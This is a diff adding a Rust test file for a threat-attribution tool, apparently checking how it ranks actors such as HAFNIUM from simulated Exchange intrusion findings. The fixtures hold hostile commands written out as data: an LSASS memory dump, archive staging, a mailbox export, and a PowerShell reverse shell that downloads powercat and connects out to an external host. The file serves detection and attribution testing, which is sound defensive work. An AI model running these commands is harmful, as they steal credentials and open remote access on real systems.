@@ -1,0 +1,453 @@
+//! Knowledge base, profile and scoring tests on the shipped knowledge base and hand-made findings.
+
+use chrono::{DateTime, Utc};
+use exhunt_attribute::{
+    Attribution, Confidence, HypothesisKind, KnowledgeBase, Likelihood, attribute, profile,
+    render_text,
+};
+use exhunt_model::{Finding, RuleRef};
+use serde_json::{Map, Value, json};
+
+fn t(s: &str) -> DateTime<Utc> {
+    s.parse().unwrap()
+}
+
+fn finding(id: &str, title: &str, tags: &[&str], time: Option<&str>, fields: Value) -> Finding {
+    let fields: Map<String, Value> = fields.as_object().cloned().unwrap_or_default();
+    Finding {
+        id: id.into(),
+        rule: RuleRef {
+            id: format!("rule-{id}"),
+            title: title.into(),
+            level: "high".into(),
+            source: "sigma:test".into(),
+        },
+        tags: tags.iter().map(|s| s.to_string()).collect(),
+        time: time.map(t),
+        host: Some("EXCH01".into()),
+        evidence: Vec::new(),
+        fields,
+    }
+}
+
+/// Findings resembling the 2021 HAFNIUM intrusion; `day` is the exploitation date.
+fn hafnium_like(day: &str) -> Vec<Finding> {
+    let at = |hm: &str| format!("{day}T{hm}:00Z");
+    vec![
+        finding(
+            "f01",
+            "ProxyLogon SSRF",
+            &["attack.initial-access", "attack.t1190", "cve.2021-26855"],
+            Some(&at("02:57")),
+            json!({"c-ip": "167.99.168.251", "cs-uri-stem": "/ecp/y.js"}),
+        ),
+        finding(
+            "f02",
+            "ProxyLogon Virtual Directory Reset",
+            &["attack.persistence", "attack.t1505.003", "cve.2021-27065"],
+            Some(&at("02:58")),
+            json!({}),
+        ),
+        finding(
+            "f03",
+            "OAB Generator Wrote a Temporary File",
+            &["attack.t1190", "cve.2021-26858"],
+            Some(&at("02:59")),
+            json!({}),
+        ),
+        finding(
+            "f04",
+            "Unexpected ASP.NET Page in an Exchange or IIS Web Folder",
+            &["attack.persistence", "attack.t1505.003"],
+            None,
+            json!({"Path": "C/inetpub/wwwroot/aspnet_client/system_web/AONXHKFPLZ.aspx", "FileName": "AONXHKFPLZ.aspx"}),
+        ),
+        finding(
+            "f05",
+            "China Chopper Command Wrapper in a Command Line",
+            &[
+                "attack.persistence",
+                "attack.t1505.003",
+                "attack.execution",
+                "attack.t1059.003",
+            ],
+            Some(&at("03:12")),
+            json!({"CommandLine": "cmd /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\"&whoami&echo [S]&cd&echo [E]", "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe"}),
+        ),
+        finding(
+            "f06",
+            "LSASS Memory Dump With comsvcs.dll MiniDump or ProcDump",
+            &["attack.credential-access", "attack.t1003.001"],
+            Some(&at("03:31")),
+            json!({"CommandLine": "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp"}),
+        ),
+        finding(
+            "f07",
+            "Archiver Writing to a Staging Folder on an Exchange Server",
+            &["attack.collection", "attack.t1560.001", "attack.t1074.001"],
+            Some(&at("03:44")),
+            json!({"Image": "C:\\Program Files\\7-Zip\\7z.exe", "CommandLine": "7z.exe a C:\\ProgramData\\it.zip C:\\windows\\temp\\lsass.dmp"}),
+        ),
+        finding(
+            "f08",
+            "Exchange Management Snap-In Loaded From a PowerShell Command",
+            &[
+                "attack.execution",
+                "attack.t1059.001",
+                "attack.collection",
+                "attack.t1114.001",
+            ],
+            Some(&at("03:53")),
+            json!({"CommandLine": "powershell.exe -c Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; New-MailboxExportRequest -Mailbox ceo"}),
+        ),
+        finding(
+            "f09",
+            "PowerShell Reverse Shell",
+            &["attack.execution", "attack.t1059.001", "attack.t1105"],
+            Some(&at("04:01")),
+            json!({"CommandLine": "powershell IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c 1.2.3.4 -p 443 -e powershell"}),
+        ),
+        finding(
+            "f10",
+            "Nishang One-Liner",
+            &["attack.execution", "attack.t1059.001"],
+            Some(&at("04:05")),
+            json!({"CommandLine": "powershell -nop -c Invoke-PowerShellTcpOneLine"}),
+        ),
+    ]
+}
+
+fn hyp<'a>(a: &'a Attribution, id: &str) -> &'a exhunt_attribute::HypothesisResult {
+    a.hypotheses
+        .iter()
+        .find(|h| h.id == id)
+        .unwrap_or_else(|| panic!("{id} not shown"))
+}
+
+#[test]
+fn kb_loads_with_groups_software_and_notice() {
+    let kb = KnowledgeBase::embedded();
+    assert!(kb.groups.len() >= 150, "{} groups", kb.groups.len());
+    assert!(kb.techniques.len() >= 500);
+    assert_eq!(kb.software["S0020"].name, "China Chopper");
+    assert_eq!(kb.software["S0002"].name, "Mimikatz");
+    assert_eq!(kb.software["S0154"].name, "Cobalt Strike");
+    assert_eq!(kb.software["S0013"].name, "PlugX");
+    assert_eq!(kb.software["S0596"].name, "ShadowPad");
+    let h = kb.group("G0125").expect("HAFNIUM");
+    assert_eq!(h.name, "HAFNIUM");
+    assert!(kb.group_features("G0125").contains("S0020"));
+    assert!(kb.group_features("G0125").contains("T1505.003"));
+    assert!(kb.notice.as_deref().unwrap_or("").contains("MITRE"));
+    assert!(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("data/ATTACK-LICENSE.txt")
+            .exists()
+    );
+    // campaigns with attribution are there for the benchmark
+    assert!(
+        kb.campaigns
+            .iter()
+            .filter(|c| !c.attributed_to.is_empty())
+            .count()
+            >= 20
+    );
+}
+
+#[test]
+fn aliases_are_kept_per_source_without_transitive_merge() {
+    let kb = KnowledgeBase::embedded();
+    let h = kb.group("G0125").unwrap();
+    assert!(
+        h.aliases
+            .microsoft
+            .iter()
+            .any(|m| m.name == "Silk Typhoon" && m.is_same_as())
+    );
+    assert!(h.aliases.attack.iter().any(|a| a == "Silk Typhoon"));
+
+    let apt31 = kb
+        .group_by_attack_name("APT31")
+        .expect("APT31 is an ATT&CK alias");
+    assert_eq!(apt31.id, "G0128");
+    assert!(
+        apt31
+            .aliases
+            .microsoft
+            .iter()
+            .any(|m| m.name == "Violet Typhoon")
+    );
+    let apt40 = kb
+        .group_by_attack_name("APT40")
+        .expect("APT40 is an ATT&CK alias");
+    assert_eq!(apt40.id, "G0065");
+    assert!(
+        apt40
+            .aliases
+            .microsoft
+            .iter()
+            .any(|m| m.name == "Gingham Typhoon")
+    );
+    // HAFNIUM is not APT31 or APT40 in any source.
+    for g in [apt31, apt40] {
+        assert!(
+            !g.aliases
+                .attack
+                .iter()
+                .any(|a| a.eq_ignore_ascii_case("HAFNIUM"))
+        );
+        assert!(!g.aliases.microsoft.iter().any(|m| m.name == "Silk Typhoon"));
+    }
+    // MISP merges Winnti into its APT41 entry; ATT&CK keeps G0044 and G0096 apart, and so do we.
+    let winnti = kb.group("G0044").unwrap();
+    let apt41 = kb.group("G0096").unwrap();
+    assert!(!winnti.aliases.attack.iter().any(|a| a == "APT41"));
+    assert!(!apt41.aliases.attack.iter().any(|a| a.contains("Winnti")));
+    assert!(
+        winnti
+            .aliases
+            .misp_threat_actor
+            .iter()
+            .any(|m| m.name == "APT41")
+    );
+    assert!(kb.group_by_attack_name("Winnti Group").unwrap().id == "G0044");
+    // Microsoft's "overlap only" entries are marked, not merged (APT27 under two names).
+    let tg3390 = kb.group("G0027").unwrap();
+    assert!(
+        tg3390
+            .aliases
+            .microsoft
+            .iter()
+            .any(|m| m.name == "Circle Typhoon" && !m.is_same_as())
+    );
+    assert!(
+        tg3390
+            .aliases
+            .microsoft
+            .iter()
+            .any(|m| m.name == "Linen Typhoon" && m.is_same_as())
+    );
+}
+
+#[test]
+fn base_rates_make_ubiquitous_techniques_weightless() {
+    let kb = KnowledgeBase::embedded();
+    let n = kb.groups.len();
+    let t1059 = kb.groups_using("T1059");
+    assert!(t1059 * 2 > n, "T1059 used by {t1059} of {n}");
+    let rare = kb.groups_using("S1011"); // Tarrask: HAFNIUM only
+    assert_eq!(rare, 1);
+    // A technique every group uses scores ~0; a rare one does not.
+    let mut p = exhunt_attribute::IntrusionProfile::default();
+    p.techniques.insert("T1059".into(), vec!["x".into()]);
+    let a = attribute(&p, &kb);
+    let e = &a.evidence[0];
+    for h in &a.hypotheses {
+        let v = h
+            .supporting
+            .iter()
+            .chain(&h.contradicting)
+            .find(|s| s.evidence == e.id)
+            .map(|s| s.log_lr)
+            .unwrap_or(0.0);
+        assert!(v.abs() < 0.35, "{} {v}", h.id);
+    }
+}
+
+#[test]
+fn hafnium_like_prepatch_intrusion_ranks_hafnium_first() {
+    let kb = KnowledgeBase::embedded();
+    let p = profile(&hafnium_like("2021-02-10"));
+    assert!(p.techniques.contains_key("T1505.003"));
+    assert!(
+        p.tools
+            .iter()
+            .any(|t| t.software.as_deref() == Some("S0020"))
+    );
+    assert!(p.tools.iter().any(|t| t.name == "ProcDump"));
+    assert_eq!(p.timing[0].relative_to_patch, "pre-patch");
+    assert!(p.infrastructure.iter().any(|i| i.value == "167.99.168.251"));
+    let a = attribute(&p, &kb);
+    let top = &a.hypotheses[0];
+    assert_eq!(top.id, "G0125", "{}", render_text(&a));
+    assert!(top.likelihood >= Likelihood::Likely, "{:?}", top.likelihood);
+    assert!(
+        top.display_name.contains("Silk Typhoon (Microsoft)"),
+        "{}",
+        top.display_name
+    );
+    assert!(top.confidence >= Confidence::Moderate);
+    assert!(!a.insufficient_evidence);
+    // every supporting item points back at findings
+    assert!(top.supporting.iter().all(|s| !s.finding_ids.is_empty()));
+    let timing = top
+        .supporting
+        .iter()
+        .find(|s| s.label.contains("ProxyLogon"))
+        .expect("timing supports");
+    assert!(timing.finding_ids.contains(&"f01".to_string()));
+    // the opportunist hypothesis is contradicted by pre-patch exploitation
+    let opp = hyp(&a, "opportunist");
+    assert!(
+        opp.contradicting
+            .iter()
+            .any(|s| s.label.contains("ProxyLogon"))
+    );
+    assert!(hyp(&a, "unknown").kind == HypothesisKind::UnknownActor);
+    // state links are quoted with their sources
+    assert!(top.state_statements.iter().all(|s| !s.citation.is_empty()));
+    assert!(
+        top.state_statements
+            .iter()
+            .any(|s| s.statement.quote.as_deref() == Some("highly likely"))
+    );
+    let text = render_text(&a);
+    assert!(text.contains("HAFNIUM"));
+}
+
+#[test]
+fn post_patch_times_lower_hafnium_and_raise_residual_hypotheses() {
+    let kb = KnowledgeBase::embedded();
+    let pre = attribute(&profile(&hafnium_like("2021-02-10")), &kb);
+    let post = attribute(&profile(&hafnium_like("2021-03-10")), &kb);
+    assert!(hyp(&post, "G0125").posterior < hyp(&pre, "G0125").posterior);
+    assert!(hyp(&post, "opportunist").posterior > hyp(&pre, "opportunist").posterior);
+    assert!(hyp(&post, "unknown").posterior > hyp(&pre, "unknown").posterior);
+}
+
+#[test]
+fn one_generic_technique_is_insufficient_evidence() {
+    let kb = KnowledgeBase::embedded();
+    let f = vec![finding(
+        "g1",
+        "Command line",
+        &["attack.execution", "attack.t1059"],
+        Some("2023-05-01T10:00:00Z"),
+        json!({}),
+    )];
+    let a = attribute(&profile(&f), &kb);
+    assert!(a.insufficient_evidence);
+    assert!(
+        a.headline.starts_with("Insufficient evidence"),
+        "{}",
+        a.headline
+    );
+    assert!(a.hypotheses[0].confidence == Confidence::Low);
+    assert!(a.hypotheses[0].posterior < 0.55);
+}
+
+#[test]
+fn eset_tick_indicator_supports_tick() {
+    let kb = KnowledgeBase::embedded();
+    let f = vec![finding(
+        "i1",
+        "IOC: ESET Exchange web shell",
+        &["attack.persistence", "attack.t1505.003"],
+        Some("2021-02-28T12:00:00Z"),
+        json!({"Path": "C:\\inetpub\\wwwroot\\aspnet_client\\aspnet.aspx", "ioc_label": "Tick", "ioc_source": "ESET exchange_exploitation", "cs-uri-stem": "/aspnet_client/aspnet.aspx"}),
+    )];
+    let p = profile(&f);
+    assert_eq!(p.indicators[0].label, "Tick");
+    let a = attribute(&p, &kb);
+    let top = &a.hypotheses[0];
+    assert_eq!(top.id, "G0060", "{}", render_text(&a));
+    assert!(top.display_name.contains("Tick"));
+    assert!(
+        top.supporting
+            .iter()
+            .any(|s| s.label.contains("labelled \"Tick\"")
+                && s.finding_ids == vec!["i1".to_string()])
+    );
+    assert!(
+        top.supporting
+            .iter()
+            .any(|s| s.label.contains("aspnet.aspx"))
+    );
+}
+
+#[test]
+fn state_statements_are_quotes_with_sources() {
+    let kb = KnowledgeBase::embedded();
+    let st = &kb.exchange.state_statements;
+    assert!(!st.is_empty());
+    for s in st {
+        let src = kb
+            .exchange
+            .sources
+            .get(&s.source)
+            .expect("statement source exists");
+        assert!(!src.publisher.is_empty() && !src.date.is_empty());
+        assert!(s.quote.is_some() || s.quote_context.is_some());
+    }
+    assert!(
+        st.iter()
+            .any(|s| s.intrusion_set.as_deref() == Some("G0128") && s.state_entity.contains("MSS"))
+    );
+    assert!(
+        st.iter()
+            .any(|s| s.intrusion_set.as_deref() == Some("G0065") && s.state_entity.contains("MSS"))
+    );
+    assert!(st.iter().any(|s| {
+        s.quote
+            .as_deref()
+            .is_some_and(|q| q.contains("high degree of confidence"))
+    }));
+    // every curated fact cites a known source
+    for c in &kb.exchange.clusters {
+        for e in &c.exploitation {
+            assert!(kb.exchange.sources.contains_key(&e.source), "{}", e.source);
+        }
+        for w in &c.webshells {
+            assert!(kb.exchange.sources.contains_key(&w.source));
+        }
+        for t in &c.tools {
+            assert!(kb.exchange.sources.contains_key(&t.source));
+        }
+    }
+    let eset = kb
+        .exchange
+        .clusters
+        .iter()
+        .filter(|c| c.named_by == "eset-2021-03-10")
+        .count();
+    assert!(eset >= 10, "ESET clusters: {eset}");
+}
+
+#[test]
+fn attribution_json_round_trips() {
+    let kb = KnowledgeBase::embedded();
+    let a = attribute(&profile(&hafnium_like("2021-02-10")), &kb);
+    let s = serde_json::to_string_pretty(&a).unwrap();
+    let back: Attribution = serde_json::from_str(&s).unwrap();
+    assert_eq!(back, a);
+    assert!(s.contains("\"likelihood\": \""));
+}
+
+#[test]
+fn bundle_loader_matches_shipped_kb_when_data_present() {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/data/attack/enterprise-attack-18.1.json.xz");
+    if !path.exists() {
+        println!("SKIP: {} absent", path.display());
+        return;
+    }
+    let kb = exhunt_attribute::load_attack_bundle(&path).unwrap();
+    let shipped = KnowledgeBase::embedded();
+    assert_eq!(kb.groups.len(), shipped.groups.len());
+    assert_eq!(kb.group_features("G0125"), shipped.group_features("G0125"));
+    assert_eq!(
+        kb.group("G0125").unwrap().aliases.microsoft,
+        shipped.group("G0125").unwrap().aliases.microsoft
+    );
+    assert_eq!(kb.attack.version.as_deref(), Some("18.1"));
+}
+
+#[test]
+#[ignore]
+fn debug_print() {
+    let kb = KnowledgeBase::embedded();
+    for d in ["2021-02-10", "2021-03-10"] {
+        let a = attribute(&profile(&hafnium_like(d)), &kb);
+        println!("{}", render_text(&a));
+    }
+}
